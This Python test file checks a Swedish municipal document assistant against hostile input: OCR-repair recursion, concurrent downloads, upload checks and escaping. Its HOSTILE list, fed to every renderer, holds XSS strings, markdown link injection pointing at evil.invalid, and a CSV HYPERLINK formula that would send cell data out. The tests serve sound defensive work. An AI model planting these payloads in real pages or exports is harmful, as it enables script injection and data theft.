"""Issue 12, the hostile-input sweep: each finding fixed here as a test that
failed before the fix.

1  a long letter run (no spaces) crashed the OCR repair (RecursionError) and
   with it listing, the app's start and the page view; one failing document
   now is that document's status, and the upload check runs the indexer's steps
2  concurrent users got each other's downloads (one shared file per title/topic)
3  Markdown/HTML injection and CSV formula injection through document text and
   metadata (assistant.render; hypothesis feeds hostile strings to every renderer)
5  with login on, the login page embedded the index's filter values
9  upload checks disagreed with the reader (UTF-16) and with settings (size)
11 ?sida=² or a 5,000-digit page raised in the page-load handler

7 (budgets, background indexing), 10 (full disk), 12 (catch-up on start) and
downloads served only to their session: tests/test_hostile_writes.py (and
tests/test_browser_downloads.py, tests/test_browser_indexing.py in Chromium).
"""

from __future__ import annotations

import csv
import io
import re
import threading
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from assistant import documents as docs
from assistant.compare import CompareRow, Comparison
from assistant.compare import to_csv as compare_csv
from assistant.compare import to_markdown as compare_md
from assistant.draft import Draft, DraftInput, DraftSection
from assistant.draft import to_markdown as draft_md
from assistant.render import csv_cell, escape_html, escape_md, keep_citations, md_cell
from index import clean
from index.chunk import chunk_document
from index.pipeline import ingest
from index.read import read_document
from index.settings import Settings
from index.types import Answer, Chunk, Citation

REPO = Path(__file__).resolve().parent.parent
OCR_FILE = REPO / "corpus" / "001_2da92ff9d07e789e.txt"  # the OCR-damaged corpus document
PROPS = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])

YTTRANDE = ("Sammanfattning\nFörvaltningen är positiv till förslaget om fler ordningsvakter och bättre "
            "belysning i parker och på torg. Ärendet gäller stadsdelsnämndens brottsförebyggande arbete, "
            "samverkan med polisen och trygghetsvandringar i Årsta.\n\n")


def glued(n: int, seed: int = 0) -> str:
    """n letters of Swedish (OCR-style, å/ä/ö lost) with every space dropped,
    as some PDF exports produce: rich in a/o/d, the letters the repair branches on."""
    words = ("forvaltningen ar positiv till forslaget om fler ordningsvakter och battre belysning "
             "ärendet gäller stadsdelsnamndens brottsforebyggande arbete samverkan med polisen oka").split()
    out, i = [], seed
    while sum(map(len, out)) < n:
        out.append(words[i % len(words)])
        i += 7
    return "".join(out)[:n]


def long_run_file() -> str:
    """~1.4 KB: a normal yttrande paragraph plus one 1,100-letter run."""
    return YTTRANDE + glued(1100) + "\n\nFörvaltningen föreslår att nämnden godkänner yttrandet.\n"


def three_runs_file() -> str:
    """~2.3 KB with three 650-letter runs."""
    return YTTRANDE + "\n\n".join(glued(650, s) for s in (1, 2, 3)) + "\n"


# --------------------------------------------------------------------------- 1: bounded repair


def test_long_letter_runs_repair_fast_and_stay_as_written():
    clean._lexicon()  # load once, outside the timings
    for name, text in (("1 100-letter run", long_run_file()), ("three 650-letter runs", three_runs_file())):
        for force in (False, True):
            t = time.perf_counter()
            r = clean.repair(text, force=force)  # raised RecursionError before the fix
            print(f"repair({name}, force={force}): {time.perf_counter() - t:.3f} s")
            for run in re.findall(r"[^\W\d_]{300,}", text):
                assert run in r.text  # a run longer than MAX_REPAIR_LETTERS is never "repaired"
    assert len(three_runs_file().encode()) > 2_200


def test_long_run_inside_a_damaged_document_leaves_the_repair_of_the_rest():
    text = OCR_FILE.read_text(encoding="utf-8")
    run = glued(1100)
    r = clean.repair(text[:4000] + run + text[4000:])
    assert r.damaged and "Förvaltningen" in r.text and run in r.text


def test_slot_walk_is_iterative_and_capped():
    for word in ("a" * 5000, "é" * 3000, "d" * 3000, "éa" * 40, glued(2000)):
        assert len(clean._slots(word)) <= clean.MAX_VARIANTS  # no RecursionError, bounded
    assert clean.repair_word("X" + "a" * (clean.MAX_REPAIR_LETTERS + 5)) == "X" + "a" * (clean.MAX_REPAIR_LETTERS + 5)
    assert clean.repair_word("Forvaltningen") == "Förvaltningen"  # the repair itself still works


def _reference_map(spans, start, end):
    """The original linear span mapping (before the fix), as a reference."""
    def pos(p, is_end):
        shift = 0
        for sa, sb, da, db in spans:
            if p <= sa:
                return p + shift if p < sa else da
            if p < sb:
                return db if is_end else da
            shift = db - sb
        return p + shift
    return pos(start, False), pos(end, True)


_OCR_REPAIR = {}


def _ocr_repair():
    if not _OCR_REPAIR:
        text = OCR_FILE.read_text(encoding="utf-8")
        _OCR_REPAIR["r"] = (text, clean.repair(text))
    return _OCR_REPAIR["r"]


@PROPS
@given(st.data())
def test_span_maps_agree_with_the_linear_reference(data):
    text, r = _ocr_repair()
    spans = r._spans()
    back = [(da, db, sa, sb) for sa, sb, da, db in spans]
    for source, mapping, ref in ((r.text, r.to_original_span, back), (text, r.to_repaired_span, spans)):
        a = data.draw(st.integers(0, len(source)))
        b = data.draw(st.integers(a, len(source)))
        assert mapping(a, b) == _reference_map(ref, a, b)
    # edit borders exactly
    e = data.draw(st.sampled_from(spans))
    for p in (e[0] - 1, e[0], e[0] + 1, e[1] - 1, e[1], e[1] + 1):
        p = min(max(p, 0), len(text))
        assert r.to_repaired_span(p, p) == _reference_map(spans, p, p)


def test_chunking_a_long_damaged_text_maps_spans_once():
    """Finding 7: spans were recomputed per chunk (quadratic). Now a Repair
    builds its span maps once; chunking ~300 KB of OCR text is timed (printed)."""
    from index.settings import ChunkSettings

    text, _ = _ocr_repair()
    big = (text + "\n\n") * max(1, 300_000 // len(text))
    doc = read_document(OCR_FILE)
    doc = type(doc)(id=doc.id, source=doc.source, text=big, page_starts=(0,), meta=None, sha256="x")
    t = time.perf_counter()
    fixed = clean.repair(big)
    t_repair = time.perf_counter() - t
    assert fixed._to_original is fixed._to_original  # built once, cached
    t = time.perf_counter()
    chunks = chunk_document(doc, ChunkSettings(), display_text=fixed.text, to_original=fixed.to_original_span)
    print(f"{len(big) // 1000} KB OCR text, {len(fixed.edits)} edits: repair {t_repair:.1f} s, "
          f"chunk {time.perf_counter() - t:.1f} s, {len(chunks)} chunks")
    for c in chunks[:: max(1, len(chunks) // 200)]:
        ra, rb = fixed.to_repaired_span(c.start, c.end)  # and back: the chunk lies inside its source span
        assert c.original == big[c.start:c.end] and c.text in fixed.text[ra:rb]


# --------------------------------------------------------------------------- 1: one bad document, not the app


def _fns(demo) -> dict:
    """The app's event handlers by api_name or function name."""
    out = {}
    for f in demo.fns.values():
        out.setdefault(f.api_name if f.api_name not in (None, False, "false") else f.fn.__name__, f.fn)
        out.setdefault(f.fn.__name__, f.fn)
    return out


class _Req:
    def __init__(self, **params):
        self.query_params = params


def test_long_run_files_list_serve_and_ingest(tiny_settings):
    from assistant.app import build_app

    corpus = tiny_settings.corpus_dir
    (corpus / "lang_rad.txt").write_text(long_run_file(), encoding="utf-8")
    (corpus / "tre_rader.txt").write_text(three_runs_file(), encoding="utf-8")
    t = time.perf_counter()
    rows = {d.doc_id: d for d in docs.list_documents(tiny_settings)}  # unindexed: read + repair
    print(f"list_documents (unindexed): {time.perf_counter() - t:.2f} s")
    assert set(rows) == {"a_sdn", "b_kyrk", "lang_rad", "tre_rader"}
    assert not any(d.title.startswith("(kunde inte") for d in rows.values())
    build_app(tiny_settings)  # the app starts with them in the corpus (no index yet)
    report = ingest(tiny_settings, progress=False)
    assert report.ok and report.documents == 4, report.failed
    demo = build_app(tiny_settings)  # a "restart"
    fns = _fns(demo)
    view = fns["on_page_load"](_Req(dok="lang_rad", sida="1"))[2]  # (tabs, page control, viewer, ...)
    assert "Sida 1 av" in view and "ordningsvakter" in view


def test_one_failing_document_is_its_own_status(tiny_settings, monkeypatch):
    """Any exception while reading/repairing one document (here forced) is that
    document's status: listing, the app, the ?dok= view and ingest go on.
    (Listing never runs the repair since finding 7 – page loads stay cheap – so
    a failing read stands in for it there; the repair's failure is reported by
    ingest and the view.)"""
    from assistant.app import build_app

    (tiny_settings.corpus_dir / "trasig.txt").write_text(YTTRANDE + "GIFTPILL\n", encoding="utf-8")
    real_repair, real_read = clean.repair, docs.read_document

    def bomb(text, **kw):
        if "GIFTPILL" in text:
            raise RecursionError("maximum recursion depth exceeded")
        return real_repair(text, **kw)

    def read_bomb(path, **kw):
        if Path(path).stem == "trasig":
            raise docs.ReadError(path, "oväntat fel (RecursionError: maximum recursion depth exceeded)", "unexpected")
        return real_read(path, **kw)

    monkeypatch.setattr(docs, "repair", bomb)
    monkeypatch.setattr("index.pipeline.repair", bomb)
    monkeypatch.setattr(docs, "read_document", read_bomb)
    rows = {d.doc_id: d for d in docs.list_documents(tiny_settings)}
    assert rows["trasig"].title.startswith("(kunde inte läsas:") and "RecursionError" in rows["trasig"].title
    assert rows["a_sdn"].namnd == "Spånga-Tensta stadsdelsnämnd"
    monkeypatch.setattr(docs, "read_document", real_read)
    with pytest.raises(ValueError, match="kunde inte läsas"):
        docs.document_pages(tiny_settings, "trasig")
    report = ingest(tiny_settings, progress=False)
    assert len(report.failed) == 1 and report.failed[0][0].endswith("trasig.txt")
    assert report.documents == 2 and report.chunks > 0
    fns = _fns(build_app(tiny_settings))
    view = fns["on_page_load"](_Req(dok="trasig"))[2]
    assert "Fel:" in view
    view = fns["on_page_load"](_Req(dok="a_sdn"))[2]
    assert "Sida 1 av" in view


def test_upload_check_runs_the_indexer_steps(tiny_settings, monkeypatch):
    """What the upload check accepts the indexer can index: it runs read ->
    repair -> chunk (index.pipeline.check_file); a file that fails there is
    refused and nothing is written."""
    import index.pipeline as pipeline

    real_chunk = pipeline.chunk_document

    def chunk_bomb(doc, *a, **kw):
        if "GIFTPILL" in doc.text:
            raise MemoryError("chunking blew up")
        return real_chunk(doc, *a, **kw)

    monkeypatch.setattr(pipeline, "chunk_document", chunk_bomb)
    before = sorted(p.name for p in tiny_settings.corpus_dir.iterdir())
    with pytest.raises(docs.UploadError, match="kan inte indexeras"):
        docs.save_uploads(tiny_settings, [("ok.txt", YTTRANDE.encode()),
                                          ("bomb.txt", (YTTRANDE + "GIFTPILL").encode())])
    assert sorted(p.name for p in tiny_settings.corpus_dir.iterdir()) == before
    monkeypatch.undo()
    saved, report = docs.upload_and_index(tiny_settings, [("lang rad.txt", long_run_file().encode())])
    assert [p.name for p in saved] == ["lang rad.txt"] and report.ok and not report.failed
    assert any(d.doc_id == "lang rad" and d.indexed for d in docs.list_documents(tiny_settings))


# --------------------------------------------------------------------------- 9: upload checks = reader + settings


TEXT = "Förvaltningen är positiv till åtgärden. Ärendet gäller Årsta och Älvsjö. Café-verksamhet nämns."


@pytest.mark.parametrize("encoding,data", [
    ("utf-16 (Notepad 'Unicode')", TEXT.encode("utf-16")),
    ("utf-16-be with BOM", b"\xfe\xff" + TEXT.encode("utf-16-be")),
    ("utf-8 with BOM", TEXT.encode("utf-8-sig")),
    ("utf-8", TEXT.encode("utf-8")),
    ("cp1252", TEXT.encode("cp1252")),
    ("latin-1", TEXT.encode("latin-1")),
])
def test_uploads_accept_what_the_reader_reads(tiny_settings, encoding, data):
    [path] = docs.save_uploads(tiny_settings, [("kodning.txt", data)])
    assert read_document(path).text.strip() == TEXT, encoding


def test_upload_limits_come_from_settings(tiny_settings):
    big = b"Text. " * (21 * 1024 * 1024 // 6)  # 21 MB: over the 20 MB default
    with pytest.raises(docs.UploadError, match="större än 20 MB"):
        docs.save_uploads(tiny_settings, [("stor.txt", big)])
    small = tiny_settings.with_overrides(app__max_upload_mb=1)
    with pytest.raises(docs.UploadError, match="större än 1 MB"):
        docs.save_uploads(small, [("mellan.txt", b"Text. " * (2 * 1024 * 1024 // 6))])
    roomy = tiny_settings.with_overrides(app__max_upload_mb=50)
    # 21 MB of text passes the size limit, but is ~37,000 passages (an hour of embedding): the budget refuses it
    with pytest.raises(docs.UploadError, match="avsnitt, fler än gränsen 2 000 per fil") as refused:
        docs.save_uploads(roomy, [("stor.txt", big)])
    assert "20 MB" not in str(refused.value)
    fat = _fat_docx(21 * 1024 * 1024)  # 21 MB on disk (an embedded blob), a few lines of text
    [p] = docs.save_uploads(roomy, [("stor.docx", fat)])  # refused by a hard-coded 20 MB check before
    assert p.stat().st_size == len(fat)
    few = tiny_settings.with_overrides(app__max_upload_files=2)
    with pytest.raises(docs.UploadError, match="Högst 2 filer"):
        docs.save_uploads(few, [(f"f{i}.txt", TEXT.encode()) for i in range(3)])


def _fat_docx(size: int) -> bytes:
    """A valid .docx of about `size` bytes: one short paragraph of text plus an
    unreferenced blob of random (incompressible) bytes, stored uncompressed."""
    import os
    import zipfile

    import docx

    d = docx.Document()
    d.add_paragraph(TEXT)
    buf = io.BytesIO()
    d.save(buf)
    with zipfile.ZipFile(buf, "a", compression=zipfile.ZIP_STORED) as z:
        z.writestr("word/media/blob.bin", os.urandom(size))
    return buf.getvalue()


# --------------------------------------------------------------------------- 2: own file per request


@pytest.fixture
def app_fns(tiny_settings):
    from assistant.app import build_app

    assert ingest(tiny_settings, progress=False).ok
    return _fns(build_app(tiny_settings))


def _run_all(fn, args_list):
    results, errors = [None] * len(args_list), []
    start = threading.Barrier(len(args_list))

    def go(i):
        try:
            start.wait()
            results[i] = fn(*args_list[i])
        except Exception as e:  # noqa: BLE001
            errors.append(e)

    threads = [threading.Thread(target=go, args=(i,)) for i in range(len(args_list))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors, errors
    return results


def test_concurrent_drafters_get_their_own_files(app_fns):
    import docx

    words = ("alfapunkten", "betapunkten", "gammapunkten", "deltapunkten")
    args = [("Stockholms stads trygghetsprogram 2028–2031", "kommunstyrelsen", "KS 2027/1",
             "Skarpnäcks stadsdelsnämnd", "2027-11-20", f"samverkan med polisen kring {w}") for w in words]
    results = _run_all(app_fns["draft"], args)
    docx_paths = [r[1] for r in results]
    md_paths = [r[2] for r in results]
    assert len(set(docx_paths)) == 4 and len(set(md_paths)) == 4
    for w, (md, dpath, mpath) in zip(words, results):
        assert Path(dpath).name.startswith("yttrande_Stockholms_stads_trygghetsprogram")  # readable name
        text = "\n".join(p.text for p in docx.Document(dpath).paragraphs)
        mine = Path(mpath).read_text(encoding="utf-8")
        assert w in text and w in mine and w in md
        assert not any(o in text or o in mine for o in words if o != w)
    assert not [p for r in results for p in Path(r[1]).parent.iterdir() if p.name.startswith(".tmp-")]


def test_compare_exports_with_a_shared_prefix_are_distinct(app_fns):
    prefix = "ordningsvakter och trygghet i offentliga miljöer, "  # > 40 characters
    topics = [prefix + s for s in ("parker", "torg", "tunnelbana", "skolgårdar")]
    results = _run_all(app_fns["compare"], [(t,) for t in topics])
    assert len({r[1] for r in results}) == 4 and len({r[2] for r in results}) == 4
    for topic, (_, csv_path, md_path, xlsx_path) in zip(topics, results):
        assert md_cell(topic) in Path(md_path).read_text(encoding="utf-8")
        assert Path(csv_path).read_text(encoding="utf-8-sig").startswith("Nämnd;")  # Swedish Excel
        assert Path(xlsx_path).suffix == ".xlsx" and Path(xlsx_path).stat().st_size > 0


def test_write_atomic_leaves_nothing_on_failure(tmp_path):
    from assistant import outputs

    here = outputs.request_dir(tmp_path)
    assert here != outputs.request_dir(tmp_path)

    def broken(p):
        Path(p).write_bytes(b"half")
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError):
        outputs.write_atomic(here / "x.docx", broken)
    assert list(here.iterdir()) == []
    assert outputs.write_atomic(here / "x.md", "hej").read_text(encoding="utf-8") == "hej"


# --------------------------------------------------------------------------- 3/4: escaping by construction

HOSTILE = [
    "![x](http://evil.invalid/x.png)", "[logga in här](http://evil.invalid/login)", "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>", '=HYPERLINK("http://evil.invalid/?d="&A2;"klicka")', "+1+2", "-2+3", "@SUM(A1)",
    "\t=1", "\r=1", "<http://evil.invalid>", "http://evil.invalid/a", "www.evil.invalid", "ond@evil.invalid",
    "[1]: http://evil.invalid", "[1]", "[ref]\n\n[ref]: http://evil.invalid", "![a][1]", "`kod`", "**fet**", "_kursiv_",
    "# rubrik", "> citat", "- lista", "1. lista", "| a | b |", "\\", "\\[x](y)", "&lt;img src=x&gt;",
    "<a href='x'>a</a>",
    "[x]\n(http://evil.invalid)", "![x](<http://evil.invalid>)", "[x](javascript:alert(1))", "~~s~~", "$$x$$",
    "<!-- c -->", "<?php ?>", "&#60;img&#62;", "HtTpS://evil.invalid", "[x](//evil.invalid)",
]
hostile = st.lists(st.one_of(st.sampled_from(HOSTILE), st.text(max_size=12),
                             st.sampled_from(["\n", " ", "\n\n", "]", "[", "(", ")", "!", ":", "//", "<", ">", "\\"])),
                   min_size=1, max_size=10).map("".join)

_ALLOWED_TAGS = {"p", "strong", "em", "h1", "h2", "h3", "ul", "ol", "li", "blockquote", "table", "thead", "tbody",
                 "tr", "th", "td", "br", "hr"}


def _md_html(md: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(md)


def assert_inert_markdown(md: str) -> None:
    """Rendered as CommonMark (+ GFM tables, raw HTML allowed): only the tags
    our templates make; no link, image or raw HTML. GFM's bare-URL and e-mail
    autolinks (Gradio's renderer has them) are checked on the source."""
    out = _md_html(md)
    tags = {t.lower() for t in re.findall(r"<\s*/?\s*([A-Za-z][\w-]*)", out)}
    assert tags <= _ALLOWED_TAGS, (tags - _ALLOWED_TAGS, md, out)
    assert not re.search(r"(?<!\\)(?i:https?|ftp):(?=//)", md), md
    assert not re.search(r"(?<![\\\w])(?i:www)\.", md), md
    assert not re.search(r"(?<!\\)@", md), md


def _chunk(text: str, **kw) -> Chunk:
    d = dict(id="x#0", doc_id="x", source="corpus/x.txt", text=text, original=text, start=0, end=len(text),
             page=2, page_end=2, section="Synpunkter", namnd="Testnämnden", year=2021, period="2020-2023")
    d.update(kw)
    return Chunk(**d)


def hostile_comparison(s: str) -> Comparison:
    ch = _chunk(s + " text", namnd=s, title=s, section=s, source="corpus/" + s[:20])
    rows = [CompareRow("x", s, s, 2021, s, s, "positiv", [s, s], Citation(1, ch, s, 0.9), 0.9),
            CompareRow(s, "", s, None, s, s, "ej berört", [], None, 0.1)]
    return Comparison(s, rows, s)


def hostile_draft(s: str) -> Draft:
    ch = _chunk(s, namnd=s, title=s, section=s)
    cit = Citation(1, ch, s, 0.9)
    sections = [DraftSection("Sammanfattning", f"{s} [1]\n\nFormulering från {s} [1]: »{s}«"),
                DraftSection("Förvaltningens synpunkter och förslag", f"Punkter:\n- {s}\n- {s}"),
                DraftSection("Bakgrund", s)]
    return Draft(DraftInput(title=s, namnd=s, remittent=s, dnr=s, date="", points=s), sections, [cit], [s])


@PROPS
@given(hostile)
@example("![x](http://evil.invalid/x.png) [logga in här](http://evil.invalid/login) <img src=x>")
@example('=HYPERLINK("http://evil.invalid/?d="&A2;"klicka")')
def test_every_markdown_renderer_is_inert(s):
    from assistant.app import answer_markdown

    assert_inert_markdown(escape_md(s))
    assert_inert_markdown(keep_citations(escape_md(s)))
    assert_inert_markdown(md_cell(s))
    assert_inert_markdown(draft_md(hostile_draft(s)))
    assert_inert_markdown(compare_md(hostile_comparison(s)))
    assert_inert_markdown(answer_markdown(Answer(question=s, text=f"**Nämnd (2021)** skriver: »{s}« [1]")))


@PROPS
@given(hostile)
def test_escaped_text_reads_back_as_written(s):
    """Escaping loses nothing: the rendered text is the input (whitespace aside)."""
    import html as html_mod

    if "\x00" in s:
        return  # CommonMark turns NUL into U+FFFD
    out = _md_html(escape_md(s))
    text = html_mod.unescape(re.sub(r"<[^>]+>", "", out))
    assert text.split() == s.split(), (s, escape_md(s), out)


@PROPS
@given(hostile)
def test_html_renderers_are_inert(s):
    from assistant.app import render_comparison, render_hits
    from index.types import Hit

    assert not set("<>\"'") & set(escape_html(s))
    for out in (render_comparison(hostile_comparison(s)), render_hits([Hit(_chunk(s, namnd=s, title=s), 1.0, 1)])):
        tags = set(re.findall(r"<\s*([A-Za-z][\w-]*)", out))
        assert tags <= {"div", "pre", "b", "br", "code", "a", "small", "h3", "table", "tr", "td", "th", "p", "mark"}
        assert all(h.startswith("?dok=") for h in re.findall(r'href="([^"]*)"', out))
        assert "<img" not in out and "<script" not in out


@PROPS
@given(hostile)
@example('=HYPERLINK("http://evil.invalid/?d="&A2;"klicka")')
def test_csv_cells_never_start_a_formula(s):
    rows = list(csv.reader(io.StringIO(compare_csv(hostile_comparison(s)), newline="")))
    assert len(rows) == 3
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip().startswith(("=", "+", "-", "@")) and not cell.startswith(("\t", "\r")), row
    assert rows[1][5] in (s, "'" + s)  # the quote itself, only prefixed


def test_csv_cell_examples():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell(" -2") == "' -2" and csv_cell("@x") == "'@x"
    assert csv_cell("\tx") == "'\tx" and csv_cell("Förvaltningen") == "Förvaltningen" and csv_cell(2021) == "2021"
    assert csv_cell(None) == ""


def test_escape_md_keeps_file_names_and_names_readable():
    assert escape_md("corpus/000_3597c3daaecaf7f2.txt") == "corpus/000_3597c3daaecaf7f2.txt"
    name = "Enskede-Årsta-Vantörs stadsdelsnämnd, s. 3–4"
    assert escape_md(name) == name
    assert escape_md("[logga in](http://x)") == "\\[logga in\\]\\(http\\://x\\)"


# --------------------------------------------------------------------------- 5: login page without index data


def test_login_page_holds_no_index_data(tiny_settings):
    import socket
    import urllib.request

    import yaml

    from assistant.app import QUEUE_CONCURRENCY, build_app, launch_kwargs

    ingest(tiny_settings, progress=False)
    names = [e["namnd"] for folder in (REPO / "corpus", tiny_settings.corpus_dir)
             for e in yaml.safe_load((folder / "metadata.yaml").read_text("utf-8")).values()]
    s = tiny_settings.with_overrides(app__username="handlaggare", app__password="hemligt")
    demo = build_app(s)
    kw = launch_kwargs(s)
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    kw.update(server_port=port, prevent_thread_lock=True, quiet=True)
    demo.queue(default_concurrency_limit=QUEUE_CONCURRENCY).launch(**kw)
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=60) as r:
            page = r.read().decode("utf-8")
    finally:
        demo.close()
    assert "auth_required" in page
    leaked = [n for n in names if n in page]
    assert not leaked, leaked


def test_filter_choices_are_filled_at_page_load(app_fns):
    namnd = app_fns["on_page_load"](_Req())[9]["choices"]  # outputs: … seen, poll, table, status, Nämnd, …
    flat = [c[0] if isinstance(c, (list, tuple)) else c for c in namnd]
    assert "Alla" in flat and "Spånga-Tensta stadsdelsnämnd" in flat and "Kyrkogårdsnämnden" in flat


# --------------------------------------------------------------------------- 11: ?sida=


@pytest.mark.parametrize("raw,page", [("3", 3), ("²", 1), ("٣", 1), ("9" * 5000, 1), ("-2", 1), ("0", 1),
                                      ("", 1), (None, 1), (" 2 ", 2), ("2.5", 1), ("999999", 999999)])
def test_page_param(raw, page):
    from assistant.app import page_param

    assert page_param(raw) == page


def test_page_load_with_odd_sida_values(app_fns):
    for raw in ("²", "9" * 5000, "1e9", "999999", "-1"):
        tabs, slider, view = app_fns["on_page_load"](_Req(dok="a_sdn", sida=raw))[:3]
        assert re.search(r"Sida \d+ av \d+", view), raw  # clamped to the document's pages
